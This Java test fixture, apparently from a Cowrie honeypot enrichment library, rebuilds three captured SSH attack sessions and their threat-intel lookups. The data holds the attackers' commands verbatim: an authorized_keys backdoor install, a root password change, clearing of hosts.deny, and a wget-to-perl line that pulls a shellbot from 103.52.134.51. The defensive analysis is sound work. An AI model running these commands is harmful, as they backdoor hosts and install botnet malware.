package io.github.cowriekit.report;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Incomplete;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.EnrichmentResult;
import io.github.cowriekit.model.intel.Facts;
import io.github.cowriekit.model.intel.Observable;
import io.github.cowriekit.model.intel.dshield.DshieldFacts;
import io.github.cowriekit.model.intel.spur.SpurClient;
import io.github.cowriekit.model.intel.spur.SpurFacts;
import io.github.cowriekit.model.intel.virustotal.AnalysisStats;
import io.github.cowriekit.model.intel.virustotal.VirusTotalFileFacts;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/** The three sessions of the SANS ISC diary "More Data Enrichment for Cowrie Logs", with its answers. */
final class Diary {
    static final String KEYS_FILE = "a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2";
    static final String HOSTS_DENY = "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b";
    static final String PERL_BOT = "bb4c8ee23103cd57741a1008552dae1038c17c505dd16f80571d795d91892cad";
    static final Instant FETCHED = Instant.parse("2023-05-25T12:00:00Z");

    private static final String ADD_KEY =
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun"
                    + "2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNo"
                    + "aJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgH"
                    + "wGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKg"
                    + "AySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";

    private Diary() {}

    static List<EnrichedSession> sessions() {
        return List.of(datacenter(), vpn(), perlBot());
    }

    static EnrichedSession datacenter() {
        SpurFacts spur = SpurFacts.builder()
                .asn(14061L)
                .asOrganization("DIGITALOCEAN-ASN")
                .organization("DigitalOcean, LLC")
                .infrastructure("DATACENTER")
                .client(new SpurClient(List.of(), null, null, null, null, List.of("SHIFTER_PROXY"), List.of()))
                .risks(List.of("CALLBACK_PROXY"))
                .location(new SpurFacts.Location("Clifton", "New Jersey", "US"))
                .build();
        List<EnrichmentResult> results = new ArrayList<>(ofHost("142.93.64.69", "DIGITALOCEAN-ASN", "US", spur));
        results.addAll(ofKeyInstallerFiles());
        Session session = keyInstaller("fd5ac84ee8f9", "142.93.64.69", "J9uoMrirSMHb")
                .duration(Duration.ofMillis(10_400))
                .logins(List.of(login("2023-05-24T06:23:58.906514Z", "Admin123$")))
                .build();
        return new EnrichedSession(session, results);
    }

    static EnrichedSession vpn() {
        SpurFacts spur = SpurFacts.builder()
                .asn(132203L)
                .asOrganization("Tencent Building, Kejizhongyi Avenue")
                .organization("6 COLLYER QUAY")
                .risks(List.of("TUNNEL"))
                .services(List.of("SSTP", "OPENVPN"))
                .location(new SpurFacts.Location("Central", "Central and Western District", "HK"))
                .tunnels(List.of(new SpurFacts.Tunnel(true, List.of(), List.of(), null, "VPN")))
                .build();
        List<EnrichmentResult> results = new ArrayList<>(
                ofHost("43.154.116.34", "TENCENT-NET-AP-CN Tencent Building, Kejizhongyi Avenue", "CN", spur));
        results.addAll(ofKeyInstallerFiles());
        Session session = keyInstaller("909bea239054", "43.154.116.34", "aeUVqyLmI0Sy")
                .duration(Duration.ofMillis(26_730))
                .logins(List.of(login("2023-05-24T04:41:29.843213Z", "qwe@1234")))
                .build();
        return new EnrichedSession(session, results);
    }

    static EnrichedSession perlBot() {
        SpurFacts spur = SpurFacts.builder()
                .asn(63949L)
                .asOrganization("Akamai Connected Cloud")
                .organization("Linode")
                .infrastructure("DATACENTER")
                .client(new SpurClient(List.of("TOR_PROXY_USER"), null, null, null, null, List.of(), List.of()))
                .location(new SpurFacts.Location("Richardson", "Texas", "US"))
                .build();
        SpurFacts ofDownloadHost = SpurFacts.builder()
                .asn(139009L)
                .asOrganization("Millennium Computers & Networking")
                .location(new SpurFacts.Location("Dhaka", "Dhaka Division", "BD"))
                .build();
        List<EnrichmentResult> results = new ArrayList<>(ofHost("45.79.54.105", "LINODE-AP Linode, LLC", "US", spur));
        results.addAll(ofHost(
                "103.52.134.51",
                "MCN-BD Kazi Sazzad Hossain TA Millennium Computers & Networking",
                "BD",
                ofDownloadHost));
        String url = "http://103.52.134.51/csx/perlNIK";
        results.add(notFound("urlhaus", Observable.url(url)));
        results.add(notFound("virustotal", Observable.url(url)));
        results.addAll(ofFile(PERL_BOT, "Perl", "trojan.perl/shellbot", "2023-05-15T07:28:09Z", 39));
        Session session = session("8d39860bce79", "45.79.54.105", SessionEnd.END_OF_INPUT)
                .duration(Duration.parse("PT3.12S"))
                .durationDerived(true)
                .incomplete(Set.of(Incomplete.NO_CLOSE))
                .logins(List.of(login("2023-05-22T16:48:41.724475Z", "qwerty123456")))
                .eventCounts(Map.of("cowrie.command.input", 1L))
                .commands(List.of(command("wget -qO - 103.52.134.51/csx/perlNIK|perl")))
                .downloads(List.of(Download.builder(FileOrigin.URL)
                        .url(url)
                        .host("103.52.134.51")
                        .sha256(PERL_BOT)
                        .build()))
                .build();
        return new EnrichedSession(session, results);
    }

    static SessionBuilder session(String id, String address, SessionEnd end) {
        return Session.builder(id, end).protocol("ssh").source(new Endpoint(address, 40_022));
    }

    private static SessionBuilder keyInstaller(String id, String address, String newPassword) {
        return session(id, address, SessionEnd.CLOSED)
                .eventCounts(new TreeMap<>(Map.of("cowrie.command.failed", 1L, "cowrie.command.input", 19L)))
                .commands(Stream.of(
                                "cd ~; chattr -ia .ssh; lockr -ia .ssh",
                                ADD_KEY,
                                "cat /proc/cpuinfo | grep name | wc -l",
                                "echo \"root:" + newPassword + "\"|chpasswd|bash",
                                "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh;"
                                        + " echo > /etc/hosts.deny; pkill -9 sleep;",
                                "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
                                "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
                                "ls -lh $(which ls)",
                                "which ls",
                                "crontab -l",
                                "w",
                                "uname -m",
                                "cat /proc/cpuinfo | grep model | grep name | wc -l",
                                "top",
                                "uname",
                                "uname -a",
                                "whoami",
                                "lscpu | grep Model",
                                "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")
                        .map(input -> new Command(null, input, input.contains("lockr"), null))
                        .toList())
                .downloads(List.of(
                        redirect(KEYS_FILE, "/root/.ssh/authorized_keys"), redirect(HOSTS_DENY, "/etc/hosts.deny")));
    }

    private static Download redirect(String sha256, String destination) {
        return Download.builder(FileOrigin.REDIRECT)
                .sha256(sha256)
                .destination(destination)
                .build();
    }

    static Login login(String at, String password) {
        return Login.builder()
                .at(Instant.parse(at))
                .username("root")
                .password(password)
                .success(true)
                .build();
    }

    static Command command(String input) {
        return new Command(null, input, false, null);
    }

    private static List<EnrichmentResult> ofHost(String address, String asName, String asCountry, SpurFacts spur) {
        Observable host = Observable.ip(address);
        return List.of(
                found(
                        "dshield",
                        host,
                        DshieldFacts.builder()
                                .asName(asName)
                                .asCountry(asCountry)
                                .build()),
                notFound("urlhaus", host),
                notFound("virustotal", host),
                found("spur", host, spur));
    }

    private static List<EnrichmentResult> ofKeyInstallerFiles() {
        List<EnrichmentResult> results = new ArrayList<>();
        results.addAll(ofFile(KEYS_FILE, "Text", "trojan.shell/linux", "2018-07-05T12:21:41Z", 21));
        results.addAll(ofFile(HOSTS_DENY, "JavaScript", null, "2009-03-05T06:45:38Z", 0));
        return results;
    }

    private static List<EnrichmentResult> ofFile(
            String sha256, String type, @Nullable String label, String firstSubmission, long malicious) {
        Observable file = Observable.sha256(sha256);
        VirusTotalFileFacts facts = VirusTotalFileFacts.builder()
                .typeDescription(type)
                .threatLabel(label)
                .firstSubmission(Instant.parse(firstSubmission))
                .lastAnalysisStats(AnalysisStats.builder().malicious(malicious).build())
                .build();
        return List.of(found("virustotal", file, facts), notFound("urlhaus", file));
    }

    static EnrichmentResult found(String source, Observable subject, Facts facts) {
        return new EnrichmentResult.Found(subject, source, FETCHED, facts);
    }

    static EnrichmentResult notFound(String source, Observable subject) {
        return new EnrichmentResult.NotFound(subject, source, FETCHED);
    }
}
